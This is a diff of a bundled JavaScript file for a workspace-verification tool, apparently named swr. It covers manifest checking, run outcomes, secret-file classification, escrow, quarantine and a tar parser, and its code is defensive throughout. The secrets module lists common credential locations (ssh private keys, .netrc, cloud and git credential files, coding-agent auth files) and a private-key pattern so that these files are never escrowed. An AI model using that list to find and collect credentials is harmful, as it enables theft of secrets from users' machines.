@@ -40557,7 +41268,7 @@ function selectEntries(entries, only) {
     return entries.filter(e => wanted.has(e.id));
 }
 function entryDigests(entries) {
-    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex')]));
+    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(e)).digest('hex')]));
 }
 /** The verification context for `entries` of `m`: cache, exclusions, index reader. */
 function verifyContext(m, entries, opts) {
@@ -40573,13 +41284,15 @@ function verifyContext(m, entries, opts) {
             read: opts.cache !== false
         }),
         exclude: ownPaths(m.file, opts.stateDir),
-        readIndex: (id, ref) => readIndex(indexPath(m.file, id), ref)
+        readIndex: (id, ref) => tree_index_readIndex(tree_index_indexPath(m.file, id), ref),
+        nativeWalk: opts.nativeWalk
     };
 }
-async function checkManifest(m, opts) {
+/** Verify the selected entries (those in `known` are taken as given), in manifest order. */
+async function selection_verifySelection(m, opts) {
     const started = new Date();
     const t0 = performance.now();
-    const entries = selectEntries(m.body.entries, opts.only);
+    const entries = selection_selectEntries(m.body.entries, opts.only);
     const known = opts.known ?? new Map();
     const todo = entries.filter(e => !known.has(e.id));
     const fresh = await verifyEntries(todo, verifyContext(m, todo, opts), {
@@ -40591,10 +41304,7 @@ async function checkManifest(m, opts) {
         const f = known.get(e.id) ?? byId.get(e.id);
         return f ? [f] : [];
     });
-    return buildReport({
-        command: opts.command ?? 'check',
-        version: opts.version,
-        manifest: m,
+    return {
         findings,
         options: {
             deep: opts.deep === true,
@@ -40603,17 +41313,34 @@ async function checkManifest(m, opts) {
             only: opts.only ?? []
         },
         started,
-        ms: performance.now() - t0,
+        ms: performance.now() - t0
+    };
+}
+/** The report of `checked`, the one place a check's findings become a report. */
+function selection_reportOf(m, checked, opts) {
+    return buildReport({
+        command: opts.command ?? 'check',
+        version: opts.version,
+        manifest: m,
+        findings: checked.findings,
+        options: checked.options,
+        started: checked.started,
+        ms: checked.ms,
         ...(opts.fixCommand ? { fixCommand: opts.fixCommand } : {})
     });
 }
+async function checkManifest(m, opts) {
+    return selection_reportOf(m, await selection_verifySelection(m, opts), opts);
+}
 /** Verify `entries` as if the workspace were `root` (a scratch copy), uncached. */
-function scratchVerifier(m, stateDir, jobs) {
-    return (root, entries) => reverifier({ ...m, workspace: root }, stateDir, jobs)(entries);
+function selection_scratchVerifier(m, opts) {
+    return (root, entries) => selection_reverifier({ ...m, workspace: root }, opts)(entries);
 }
 /** Verify `entries` afresh (no cached hashes), as repair does after each step. */
-function reverifier(m, stateDir, jobs) {
-    return entries => verify_verifyEntries(entries, verifyContext(m, entries, { stateDir, cache: false, jobs }), { jobs });
+function selection_reverifier(m, opts) {
+    return entries => verify_verifyEntries(entries, verifyContext(m, entries, { ...opts, cache: false }), {
+        jobs: opts.jobs
+    });
 }
 /**
  * swr's own files that may sit inside a workspace (a $HOME workspace holds the default state
@@ -40647,6 +41374,2415 @@ function ownPaths(manifestFile, stateDir) {
         out.add(parent);
     }
     return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/check.ts
+/**
+ * `check` as a use case: verify the selection, run the smoke commands when asked and the
+ * signatures allow, look up saved states in the cache when asked, and make the report once from
+ * all of it. Nothing in the workspace is written; smoke commands are the only code that may run.
+ */
+
+
+
+
+async function check(m, opts) {
+    const checked = await verifySelection(m, opts);
+    let gate;
+    let smoke;
+    if (opts.smoke) {
+        gate = await decide(gateInput(m), opts.smoke.policy);
+        const smoked = await runSmokes(m, checked.findings, gate, opts.smoke.callerEnv, opts.smoke.abort);
+        checked.findings = smoked.findings;
+        checked.ms = Date.now() - checked.started.getTime();
+        smoke = smoked.smoke;
+    }
+    let lookup;
+    if (opts.cacheLookup)
+        lookup = await lookupSavedStates(m, selectEntries(m.body.entries, opts.only), opts.cacheLookup);
+    const report = reportOf(m, checked, opts);
+    return {
+        kind: 'check',
+        report: {
+            ...report,
+            ...(smoke ? { smoke } : {}),
+            ...(lookup ? { cache_lookup: lookup } : {})
+        },
+        ...(gate ? { gate } : {})
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/outcome.ts
+/**
+ * The one place a result becomes a status and an exit code. The CLI exits with `exitCode`; the
+ * Action publishes `status` as an output and `exitCode` beside it. Both shells call `outcomeOf`
+ * (or `outcomeOfError` for a run that stopped with a one-line error), so `swr doctor` and
+ * `command: doctor` can never disagree about what a run means.
+ */
+
+/** What a run means, as the Action's `status` output spells it. */
+const RUN_STATUSES = (/* unused pure expression or super */ null && ([
+    'healthy',
+    'repaired',
+    'damaged',
+    'unrepairable',
+    'refused',
+    'invalid',
+    'error'
+]));
+const REPAIR = {
+    healthy: { status: 'healthy', exitCode: errors_EXIT.HEALTHY },
+    repaired: { status: 'repaired', exitCode: errors_EXIT.HEALTHY },
+    damaged: { status: 'damaged', exitCode: errors_EXIT.DAMAGED },
+    refused: { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE },
+    unrepairable: { status: 'unrepairable', exitCode: errors_EXIT.UNREPAIRABLE },
+    'still-damaged': { status: 'unrepairable', exitCode: errors_EXIT.STILL_DAMAGED },
+    // Nothing was decided about the workspace: it is as damaged as it was found.
+    interrupted: { status: 'damaged', exitCode: errors_EXIT.INTERRUPTED }
+};
+function outcome_repairOutcome(outcome) {
+    return REPAIR[outcome];
+}
+function outcomeOf(result) {
+    switch (result.kind) {
+        case 'repair':
+            return REPAIR[result.report.repair.outcome];
+        case 'signatures':
+            return result.gate.allowed
+                ? { status: 'healthy', exitCode: EXIT.HEALTHY }
+                : { status: 'refused', exitCode: EXIT.UNREPAIRABLE };
+        case 'check':
+            // Smoke commands the signatures did not allow: the check could not say what was asked.
+            if (result.gate && !result.gate.allowed)
+                return { status: 'refused', exitCode: EXIT.UNREPAIRABLE };
+            return result.report.verdict === 'healthy'
+                ? { status: 'healthy', exitCode: EXIT.HEALTHY }
+                : { status: 'damaged', exitCode: EXIT.DAMAGED };
+    }
+}
+/**
+ * A run that stopped with a one-line error: `invalid` for a bad manifest or input (exit 4),
+ * `refused` when swr declined to go on (exit 2), `error` when it could not finish (a write failed,
+ * another writer interfered, an interrupt, a bug).
+ */
+function outcomeOfError(exitCode) {
+    if (exitCode === EXIT.BAD_MANIFEST)
+        return { status: 'invalid', exitCode };
+    if (exitCode === EXIT.UNREPAIRABLE)
+        return { status: 'refused', exitCode };
+    return { status: 'error', exitCode };
+}
+
+;// CONCATENATED MODULE: ./src/core/secrets.ts
+/**
+ * Which files hold secrets. A secret is tracked by hash only (a tier-0 file entry: its loss is
+ * noticed and named) and never escrowed: escrowed bytes travel inside the manifest, which is
+ * committed, pushed and shared, and a manifest is not a vault.
+ *
+ * A file is a secret by where it is (swr's own state directory: its HMAC key, ML-DSA and sync
+ * seeds), by name (well-known credential locations: ssh keys, netrc, the logins of git, gh, npm,
+ * PyPI, cargo, cloud CLIs and coding agents, dotenv and direnv files, `*.pem`, `*.key`), or by
+ * content: a PEM, OpenSSH or PGP private-key header, or one of the token shapes the recipe-output
+ * scrubber masks. Content is judged on the file's first SNIFF_BYTES only, so classifying a large
+ * file costs one bounded read. The name rule also holds for entries added by hand, and escrow
+ * consults the whole rule for every file it is asked to embed.
+ */
+
+
+
+
+/** The note a secret's entry carries when it was added without one. */
+const secrets_SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
+/** Bytes read from the head of a file to judge its content. */
+const SNIFF_BYTES = (/* unused pure expression or super */ null && (64 * 1024));
+/** File names that are credentials wherever they are. */
+const SECRET_NAMES = new Set([
+    '.netrc',
+    '_netrc',
+    '.git-credentials',
+    '.pgpass',
+    '.npmrc',
+    '.pypirc',
+    '.env',
+    '.envrc',
+    '.vault-token',
+    '.credentials.json',
+    'oauth_creds.json',
+    'credentials.toml',
+    'id_rsa',
+    'id_dsa',
+    'id_ecdsa',
+    'id_ed25519',
+    'id_ecdsa_sk',
+    'id_ed25519_sk'
+]);
+/** Extensions of key and certificate-bundle files. */
+const SECRET_EXTENSIONS = /\.(pem|key|p12|pfx|jks|keystore|ppk)$/i;
+/** Paths (relative, ending a manifest path) that are credentials in one tool's directory. */
+const SECRET_SUFFIXES = (/* unused pure expression or super */ null && ([
+    '.codex/auth.json',
+    'gh/hosts.yml',
+    '.aws/credentials',
+    '.docker/config.json',
+    '.kube/config',
+    '.cargo/credentials',
+    'gcloud/credentials.db',
+    'gcloud/application_default_credentials.json'
+]));
+/** Directories whose every file is secret. */
+const SECRET_DIRS = new Set(['.gnupg']);
+/** What may sit in ~/.ssh without being a private key. */
+const SSH_PUBLIC = new Set(['config', 'known_hosts', 'known_hosts.old', 'authorized_keys']);
+/** Templates list which variables exist, without values. */
+const ENV_TEMPLATE = /^\.env\.(example|sample|template|dist)$/;
+/** PEM ("RSA", "EC", "ENCRYPTED", none), OpenSSH and PGP private-key armour. */
+const PRIVATE_KEY_HEADER = /-----BEGIN (?:[A-Z0-9]+ ){0,4}PRIVATE KEY(?: BLOCK)?-----/;
+/** True when `rel` (a manifest path) names a file that must never be escrowed. */
+function secrets_isSecretPath(rel) {
+    const segs = rel.split('/');
+    const name = segs[segs.length - 1] ?? '';
+    const parent = segs[segs.length - 2];
+    if (segs.slice(0, -1).some(s => SECRET_DIRS.has(s)))
+        return true;
+    if (SECRET_SUFFIXES.some(s => rel === s || rel.endsWith(`/${s}`)))
+        return true;
+    if (SECRET_NAMES.has(name) || SECRET_EXTENSIONS.test(name))
+        return true;
+    if (name.startsWith('.env.') && !ENV_TEMPLATE.test(name))
+        return true;
+    // Any key ssh-keygen or a person put into .ssh (id_work, deploy_github); .pub is public.
+    return parent === '.ssh' && !name.endsWith('.pub') && !SSH_PUBLIC.has(name);
+}
+/** Why these bytes are a secret (a private key or a token), or undefined. */
+function secretContent(bytes) {
+    const text = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('latin1');
+    if (PRIVATE_KEY_HEADER.test(text))
+        return 'holds a private key';
+    if (hasTokenShape(text))
+        return 'holds a token or a password';
+    return undefined;
+}
+/** The first `max` bytes of a regular file, read without following a symlink. */
+function readHead(abs, max = SNIFF_BYTES) {
+    const fd = fs.openSync(abs, fs.constants.O_RDONLY | fs.constants.O_NOFOLLOW | fs.constants.O_NONBLOCK);
+    try {
+        if (!fs.fstatSync(fd).isFile())
+            return Buffer.alloc(0);
+        const buf = Buffer.alloc(max);
+        let got = 0;
+        while (got < max) {
+            const n = fs.readSync(fd, buf, got, max - got, got);
+            if (n === 0)
+                break;
+            got += n;
+        }
+        return buf.subarray(0, got);
+    }
+    finally {
+        fs.closeSync(fd);
+    }
+}
+function realOrResolved(p) {
+    try {
+        return fs.realpathSync(p);
+    }
+    catch {
+        return path.resolve(p);
+    }
+}
+/** Why the file is a secret, in a few words, or undefined when it is not one. */
+function secrets_secretReason(q) {
+    if (q.abs && q.stateDir && isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
+        return "is in swr's state directory";
+    if (secrets_isSecretPath(q.rel))
+        return 'is a credential by name';
+    let bytes = q.bytes;
+    if (!bytes && q.abs) {
+        try {
+            bytes = readHead(q.abs);
+        }
+        catch {
+            return undefined;
+        }
+    }
+    return bytes ? secretContent(bytes) : undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/no-follow.ts
+/**
+ * Resolving a path below a trusted directory without following a symlink in any component: the
+ * rule for every place swr writes, deletes or copies (selftest's scratch copy, quarantine, canary
+ * planting and cleaning). Each directory component is lstat'ed and must be a real directory; the
+ * last component is returned unresolved, so the caller acts on the name itself (unlink, rmdir,
+ * O_NOFOLLOW|O_EXCL create, lstat-guided copy) and never on what a link there points to.
+ * A refusal names the component, relative to the trusted directory.
+ */
+
+
+
+class no_follow_SymlinkRefusal extends Error {
+    component;
+    constructor(
+    /** The offending component, relative to the trusted directory. */
+    component, why) {
+        super(`${component} ${why}`);
+        this.component = component;
+        this.name = 'SymlinkRefusal';
+    }
+}
+/**
+ * The absolute path of `rel` (POSIX, no "..") below `root`, every directory component checked to
+ * be a real directory. Missing components end the walk (the path cannot lead anywhere yet)
+ * unless `mkdir` creates them. Throws SymlinkRefusal naming a symlinked or non-directory part.
+ */
+function no_follow_resolveNoFollow(root, rel, opts = {}) {
+    if (rel === '.' || rel === '')
+        return root;
+    const segs = rel.split('/');
+    if (segs.some(s => s === '..' || s === ''))
+        throw new no_follow_SymlinkRefusal(rel, 'is not a plain path');
+    let dir = root;
+    for (let i = 0; i < segs.length - 1; i++) {
+        dir = path.join(dir, segs[i]);
+        const shown = segs.slice(0, i + 1).join('/');
+        let st = fs.lstatSync(dir, { throwIfNoEntry: false });
+        if (!st && opts.mkdir) {
+            fs.mkdirSync(dir, { mode: 0o755 });
+            st = fs.lstatSync(dir);
+        }
+        if (!st)
+            return path.join(root, ...segs);
+        if (st.isSymbolicLink())
+            throw new no_follow_SymlinkRefusal(shown, 'is a symlink; not following it');
+        if (!st.isDirectory())
+            throw new no_follow_SymlinkRefusal(shown, 'is not a directory');
+    }
+    return path.join(dir, segs[segs.length - 1]);
+}
+/** `abs` (below `root`) as a path relative to it, or undefined when it is not below it. */
+function no_follow_relativeInside(root, abs) {
+    const a = path.resolve(abs);
+    if (!isInside(root, a))
+        return undefined;
+    return path.relative(root, a).split(path.sep).join('/') || '.';
+}
+/**
+ * True when the symlink at `linkAbs` (whose parents up to `root` are real directories) can only
+ * lead to a place below `root`: a relative target whose ".." segments all come first and do not
+ * climb above `root`. A ".." after a named segment is judged unsafe, because the name may itself
+ * be a link whose parent is elsewhere; an absolute target is unsafe wherever it points.
+ */
+function linkStaysInside(root, linkAbs, target) {
+    if (target === '' || path.isAbsolute(target) || target.includes('\0'))
+        return false;
+    const segs = target.split('/').filter(s => s !== '' && s !== '.');
+    const firstNamed = segs.findIndex(s => s !== '..');
+    const named = firstNamed < 0 ? [] : segs.slice(firstNamed);
+    if (named.includes('..'))
+        return false;
+    return isInside(root, path.resolve(path.dirname(linkAbs), ...segs));
+}
+
+;// CONCATENATED MODULE: ./src/core/escrow.ts
+/**
+ * Escrow: small files carried inside the (signed) manifest, so they can be restored without a
+ * recipe. Bytes are escrowed only after they match the recorded sha256, and restored only after
+ * the inflated bytes match it again; the inflate is bounded by the recorded size, so a
+ * decompression bomb is refused before anything is written.
+ *
+ * The write never follows a symlink: the parent directories are resolved by no-follow.ts (a
+ * symlinked parent is refused, a missing one created), the data goes to a new file with a random name created exclusively with O_NOFOLLOW in
+ * the target directory, is fsynced, gets the recorded mode, and is renamed over the target (a
+ * symlink planted at the target is replaced, not followed). The result is hashed again.
+ */
+
+
+
+
+
+
+
+
+
+
+
+const escrow_ESCROW_MAX_BYTES = (/* unused pure expression or super */ null && (256 * 1024));
+function refuse(e, why) {
+    return new SwrError(`${e.id}: escrow ${why}`, EXIT.UNREPAIRABLE);
+}
+function secretRefusal(e, why) {
+    return refuse(e, `refused: ${e.path} ${why}; secrets are tracked by hash, never escrowed`);
+}
+/**
+ * Escrow the file's current bytes; refuses when they are not the recorded ones, and always for a
+ * secret (the manifest is shared and pushed: secrets are tracked by hash only): by name before
+ * anything is read, by place (`stateDir`) and by content (every byte to be embedded) after.
+ */
+function captureEscrow(workspace, e, maxBytes = escrow_ESCROW_MAX_BYTES, stateDir) {
+    const byName = secretReason({ rel: e.path, bytes: new Uint8Array() });
+    if (byName)
+        throw secretRefusal(e, byName);
+    if (e.expect.size > maxBytes)
+        throw refuse(e, `skipped: ${e.expect.size} bytes is over the ${maxBytes}-byte limit`);
+    const abs = resolveEntryPath(workspace, e.path);
+    const fd = fs.openSync(abs, fs.constants.O_RDONLY | fs.constants.O_NOFOLLOW | fs.constants.O_NONBLOCK);
+    let bytes;
+    try {
+        const st = fs.fstatSync(fd);
+        if (!st.isFile())
+            throw refuse(e, 'refused: not a regular file');
+        if (st.size !== e.expect.size)
+            throw refuse(e, `refused: ${st.size} bytes on disk, ${e.expect.size} recorded`);
+        bytes = Buffer.alloc(st.size);
+        let got = 0;
+        while (got < st.size) {
+            const n = fs.readSync(fd, bytes, got, st.size - got, got);
+            if (n === 0)
+                break;
+            got += n;
+        }
+    }
+    finally {
+        fs.closeSync(fd);
+    }
+    const secret = secretReason({ rel: e.path, abs, bytes, ...(stateDir ? { stateDir } : {}) });
+    if (secret)
+        throw secretRefusal(e, secret);
+    const sha = createHash('sha256').update(bytes).digest('hex');
+    if (sha !== e.expect.sha256)
+        throw refuse(e, 'refused: the file on disk does not match its recorded sha256');
+    return {
+        encoding: 'deflate-base64',
+        data: deflateRawSync(bytes, { level: 9 }).toString('base64')
+    };
+}
+/** The escrowed bytes, checked against the recorded size and sha256 (bounded inflate). */
+function escrowedBytes(e) {
+    if (!e.escrow)
+        throw refuse(e, 'absent');
+    let bytes;
+    try {
+        bytes = inflateRawSync(Buffer.from(e.escrow.data, 'base64'), {
+            maxOutputLength: Math.max(1, e.expect.size)
+        });
+    }
+    catch {
+        throw refuse(e, `refused: inflates to more than the recorded ${e.expect.size} bytes, or is not deflate data`);
+    }
+    if (bytes.length !== e.expect.size)
+        throw refuse(e, `refused: ${bytes.length} bytes, ${e.expect.size} recorded`);
+    if (createHash('sha256').update(bytes).digest('hex') !== e.expect.sha256)
+        throw refuse(e, 'refused: bytes do not match the recorded sha256');
+    return bytes;
+}
+/** Create or check each parent directory below the workspace without following a symlink. */
+function safeParent(workspace, e) {
+    let target;
+    try {
+        target = resolveNoFollow(workspace, e.path, { mkdir: true });
+    }
+    catch (err) {
+        if (err instanceof SymlinkRefusal)
+            throw refuse(e, `refused: ${err.message}`);
+        throw err;
+    }
+    const dir = path.dirname(target);
+    const st = fs.lstatSync(dir);
+    return { dir, dev: st.dev, ino: st.ino };
+}
+/** Write the escrowed file into place (see the module comment) and prove it verifies. */
+function escrow_restoreFromEscrow(workspace, e) {
+    const bytes = escrowedBytes(e);
+    const parent = safeParent(workspace, e);
+    const target = path.join(parent.dir, path.posix.basename(e.path));
+    const tmp = path.join(parent.dir, `.${path.posix.basename(e.path)}.swr-${randomBytes(8).toString('hex')}.tmp`);
+    const flags = fs.constants.O_WRONLY | fs.constants.O_CREAT | fs.constants.O_EXCL | fs.constants.O_NOFOLLOW;
+    const fd = fs.openSync(tmp, flags, 0o600);
+    try {
+        try {
+            writeAll(fd, bytes);
+            fs.fchmodSync(fd, parseMode(e.expect.mode));
+            fs.fsyncSync(fd);
+        }
+        finally {
+            fs.closeSync(fd);
+        }
+        const again = fs.lstatSync(parent.dir);
+        if (again.dev !== parent.dev || again.ino !== parent.ino || again.isSymbolicLink()) {
+            throw refuse(e, 'refused: the target directory was replaced while writing');
+        }
+        const existing = fs.lstatSync(target, { throwIfNoEntry: false });
+        if (existing?.isDirectory())
+            throw refuse(e, `refused: ${e.path} is a directory; remove it first`);
+        fs.renameSync(tmp, target);
+    }
+    catch (err) {
+        fs.rmSync(tmp, { force: true });
+        throw err;
+    }
+    const check = hashFile(target);
+    if (check.sha256 !== e.expect.sha256)
+        throw refuse(e, 'restored, but the file does not verify');
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/quarantine.ts
+/**
+ * Quarantine: before a recipe runs, copy (never move) the damaged file or tree into the private
+ * state directory, so the evidence survives and in-place repairs (`chmod +x`) still find their
+ * file. Bounded in size; symlinks are copied as links, never followed, and the entry's path is
+ * resolved without following a symlink in any component (a symlinked parent is refused, not
+ * copied through). The folder name comes from a prefix and the id (ids cannot contain "/"), so no
+ * id can place the copy elsewhere.
+ *
+ * The quarantine is pruned after every copy: copies older than the age limit go, then the oldest
+ * others until the whole quarantine fits the size limit (the copy just made always stays).
+ */
+
+
+
+
+
+const QUARANTINE_MAX_BYTES = (/* unused pure expression or super */ null && (256 * 1024 * 1024));
+/** Defaults of the pruning limits (SWR_QUARANTINE_KEEP_DAYS, SWR_QUARANTINE_MAX_MB). */
+const QUARANTINE_KEEP_DAYS = 7;
+const QUARANTINE_TOTAL_BYTES = (/* unused pure expression or super */ null && (1024 * 1024 * 1024));
+function sizeOf(abs, limit) {
+    const st = fs.lstatSync(abs);
+    if (!st.isDirectory())
+        return st.isFile() ? st.size : 0;
+    let total = 0;
+    for (const name of fs.readdirSync(abs)) {
+        total += sizeOf(path.join(abs, name), limit - total);
+        if (total > limit)
+            return total;
+    }
+    return total;
+}
+function quarantine_quarantine(workspace, stateDir, e, now, limits = {}) {
+    const maxBytes = limits.maxBytes ?? QUARANTINE_MAX_BYTES;
+    let abs;
+    try {
+        abs = resolveNoFollow(workspace, e.path);
+    }
+    catch (err) {
+        if (err instanceof SymlinkRefusal)
+            return { skipped: `not copied: ${err.message}` };
+        throw err;
+    }
+    if (!fs.lstatSync(abs, { throwIfNoEntry: false }))
+        return { skipped: 'nothing on disk to keep' };
+    const bytes = sizeOf(abs, maxBytes);
+    if (bytes > maxBytes)
+        return { skipped: `over the ${maxBytes}-byte quarantine limit` };
+    const stamp = now.toISOString().replace(/[:.]/g, '-');
+    const dir = ensurePrivateDir(stateDir, 'quarantine', `${stamp}-${randomBytes(4).toString('hex')}`);
+    const dest = path.join(dir, `entry-${e.id}`);
+    fs.cpSync(abs, dest, {
+        recursive: true,
+        verbatimSymlinks: true,
+        errorOnExist: true,
+        force: false,
+        preserveTimestamps: true
+    });
+    const pruned = pruneQuarantine(stateDir, now, limits, dir);
+    return pruned.removed > 0 ? { copied: dest, bytes, pruned } : { copied: dest, bytes };
+}
+/**
+ * Remove quarantined copies older than `keepMs`, then the oldest until the rest fit `totalBytes`;
+ * `keep` (the copy just made) is never removed. Ages come from each copy's folder time.
+ */
+function pruneQuarantine(stateDir, now, limits = {}, keep) {
+    const root = path.join(stateDir, 'quarantine');
+    const keepMs = limits.keepMs ?? QUARANTINE_KEEP_DAYS * 86_400_000;
+    const totalBytes = limits.totalBytes ?? QUARANTINE_TOTAL_BYTES;
+    const copies = (fs.existsSync(root) ? fs.readdirSync(root) : [])
+        .map(name => {
+        const abs = path.join(root, name);
+        const st = fs.lstatSync(abs);
+        return { abs, isDir: st.isDirectory(), mtimeMs: st.mtimeMs };
+    })
+        .filter(c => c.isDir && c.abs !== keep)
+        .map(c => ({ ...c, bytes: sizeOf(c.abs, Number.MAX_SAFE_INTEGER) }))
+        .sort((a, b) => a.mtimeMs - b.mtimeMs);
+    let total = copies.reduce((n, c) => n + c.bytes, keep ? sizeOf(keep, Number.MAX_SAFE_INTEGER) : 0);
+    const out = { removed: 0, bytes: 0 };
+    for (const c of copies) {
+        if (now.getTime() - c.mtimeMs <= keepMs && total <= totalBytes)
+            continue;
+        fs.rmSync(c.abs, { recursive: true, force: true });
+        total -= c.bytes;
+        out.removed++;
+        out.bytes += c.bytes;
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/rejected.ts
+/** Why a cache archive was refused: one line, ready for the report (names are escaped by the caller). */
+class rejected_Rejected extends Error {
+    constructor(message) {
+        super(message);
+        this.name = 'Rejected';
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/tar-reader.ts
+/**
+ * A push parser for the tar archives the Actions cache holds (POSIX pax as `tar --posix` writes
+ * them, plain ustar, and GNU long names). It only reads: every member is handed to a sink that
+ * decides where, or whether, its bytes go, so nothing here can write outside what the sink allows.
+ * Any malformed header, unknown member type or early end is a Rejected with a one-line reason.
+ */
+
+const BLOCK = 512;
+/** pax and GNU long-name records larger than this are refused (real ones are a few hundred bytes). */
+const MAX_META = (/* unused pure expression or super */ null && (1024 * 1024));
+const FLAG_NAMES = {
+    '3': 'character device',
+    '4': 'block device',
+    '6': 'FIFO'
+};
+function tar_reader_flagName(flag) {
+    return FLAG_NAMES[flag] ?? `type ${JSON.stringify(flag)}`;
+}
+function cstr(b, start, len) {
+    const end = b.indexOf(0, start);
+    return b.toString('utf8', start, end === -1 || end > start + len ? start + len : end);
+}
+function tar_reader_octal(b, start, len, what) {
+    // GNU base-256: the high bit of the first byte set (sizes of 8 GiB and more).
+    if ((b[start] ?? 0) & 0x80) {
+        let n = (b[start] ?? 0) & 0x7f;
+        for (let i = start + 1; i < start + len; i++)
+            n = n * 256 + (b[i] ?? 0);
+        if (!Number.isSafeInteger(n))
+            throw new Rejected(`malformed archive: ${what} out of range`);
+        return n;
+    }
+    const text = cstr(b, start, len).trim();
+    if (text === '')
+        return 0;
+    if (!/^[0-7]+$/.test(text))
+        throw new Rejected(`malformed archive: ${what} is not octal`);
+    return parseInt(text, 8);
+}
+function checksumOk(h) {
+    let sum = 0;
+    for (let i = 0; i < BLOCK; i++)
+        sum += i >= 148 && i < 156 ? 32 : (h[i] ?? 0);
+    return tar_reader_octal(h, 148, 8, 'checksum') === sum;
+}
+function parsePax(body) {
+    const out = new Map();
+    let at = 0;
+    while (at < body.length) {
+        const space = body.indexOf(0x20, at);
+        const len = space === -1 ? NaN : Number(body.toString('ascii', at, space));
+        if (!Number.isSafeInteger(len) || len <= 0 || at + len > body.length)
+            throw new Rejected('malformed archive: bad pax record');
+        const rec = body.toString('utf8', space + 1, at + len - 1);
+        const eq = rec.indexOf('=');
+        if (eq <= 0)
+            throw new Rejected('malformed archive: bad pax record');
+        out.set(rec.slice(0, eq), rec.slice(eq + 1));
+        at += len;
+    }
+    return out;
+}
+class tar_reader_TarReader {
+    handlers;
+    state = { kind: 'header' };
+    partial;
+    pax = new Map();
+    longName;
+    longLink;
+    zeroBlocks = 0;
+    constructor(handlers) {
+        this.handlers = handlers;
+    }
+    /** True once the end-of-archive blocks were read: the rest of the stream is not needed. */
+    get done() {
+        return this.state.kind === 'end';
+    }
+    /** The stream ended: anything but a complete archive is a truncated one. */
+    finish() {
+        if (this.state.kind !== 'end' && !(this.state.kind === 'header' && this.zeroBlocks >= 1))
+            throw new Rejected('truncated archive');
+    }
+    write(chunk) {
+        let buf = chunk;
+        if (this.partial) {
+            buf = Buffer.concat([this.partial, chunk]);
+            this.partial = undefined;
+        }
+        let at = 0;
+        while (at < buf.length && this.state.kind !== 'end') {
+            const s = this.state;
+            if (s.kind === 'header') {
+                if (buf.length - at < BLOCK) {
+                    this.partial = Buffer.from(buf.subarray(at));
+                    return;
+                }
+                this.header(buf.subarray(at, at + BLOCK));
+                at += BLOCK;
+            }
+            else if (s.kind === 'body') {
+                const n = Math.min(s.left, buf.length - at);
+                if (n > 0)
+                    s.sink?.write(buf.subarray(at, at + n));
+                s.left -= n;
+                at += n;
+                if (s.left === 0) {
+                    s.sink?.end();
+                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
+                }
+            }
+            else if (s.kind === 'meta') {
+                const n = Math.min(s.left, buf.length - at);
+                s.parts.push(Buffer.from(buf.subarray(at, at + n)));
+                s.left -= n;
+                at += n;
+                if (s.left === 0) {
+                    this.meta(s.flag, Buffer.concat(s.parts));
+                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
+                }
+            }
+            else if (s.kind === 'pad') {
+                const n = Math.min(s.left, buf.length - at);
+                s.left -= n;
+                at += n;
+                if (s.left === 0)
+                    this.state = { kind: 'header' };
+            }
+        }
+    }
+    header(h) {
+        if (h.every(b => b === 0)) {
+            if (++this.zeroBlocks >= 2)
+                this.state = { kind: 'end' };
+            return;
+        }
+        if (this.zeroBlocks > 0)
+            throw new Rejected('malformed archive: data after an end block');
+        if (!checksumOk(h))
+            throw new Rejected('malformed archive: header checksum mismatch');
+        const flag = String.fromCharCode(h[156] || 0x30);
+        let size = tar_reader_octal(h, 124, 12, 'size');
+        const pad = (BLOCK - (size % BLOCK)) % BLOCK;
+        if (flag === 'x' || flag === 'g' || flag === 'L' || flag === 'K') {
+            if (size > MAX_META)
+                throw new Rejected('malformed archive: oversized extended header');
+            this.state = { kind: 'meta', left: size, pad, flag, parts: [] };
+            if (size === 0) {
+                this.meta(flag, Buffer.alloc(0));
+                this.state = { kind: 'header' };
+            }
+            return;
+        }
+        // POSIX ustar ("ustar\0") splits long names into prefix/name; GNU ("ustar ") uses that field otherwise.
+        const posix = h.toString('ascii', 257, 262) === 'ustar' && h[262] === 0;
+        const prefix = posix ? cstr(h, 345, 155) : '';
+        let name = this.pax.get('path') ?? this.longName ?? (prefix ? `${prefix}/` : '') + cstr(h, 0, 100);
+        const linkname = this.pax.get('linkpath') ?? this.longLink ?? cstr(h, 157, 100);
+        const paxSize = this.pax.get('size');
+        if (paxSize !== undefined) {
+            if (!/^\d+$/.test(paxSize))
+                throw new Rejected('malformed archive: bad pax size');
+            size = Number(paxSize);
+        }
+        this.pax = new Map();
+        this.longName = this.longLink = undefined;
+        const type = flag === '0' || flag === '7'
+            ? 'file'
+            : flag === '5'
+                ? 'dir'
+                : flag === '2'
+                    ? 'symlink'
+                    : flag === '1'
+                        ? 'hardlink'
+                        : 'other';
+        if (type === 'dir')
+            name = name.replace(/\/+$/, '');
+        const member = {
+            name,
+            type,
+            flag,
+            mode: tar_reader_octal(h, 100, 8, 'mode') & 0o7777,
+            size: type === 'file' ? size : 0,
+            linkname
+        };
+        const sink = this.handlers.member(member);
+        // Only regular files carry a body we read; any other member's declared size is skipped.
+        const bodyPad = (BLOCK - (size % BLOCK)) % BLOCK;
+        if (size === 0) {
+            sink?.end();
+            return;
+        }
+        if (type !== 'file') {
+            this.state = { kind: 'pad', left: size + bodyPad };
+            return;
+        }
+        this.state = { kind: 'body', left: size, pad: bodyPad, sink };
+    }
+    meta(flag, body) {
+        if (flag === 'x')
+            for (const [k, v] of parsePax(body))
+                this.pax.set(k, v);
+        else if (flag === 'L')
+            this.longName = cstr(body, 0, body.length);
+        else if (flag === 'K')
+            this.longLink = cstr(body, 0, body.length);
+        // 'g' (global pax) carries nothing swr uses.
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/extract.ts
+/**
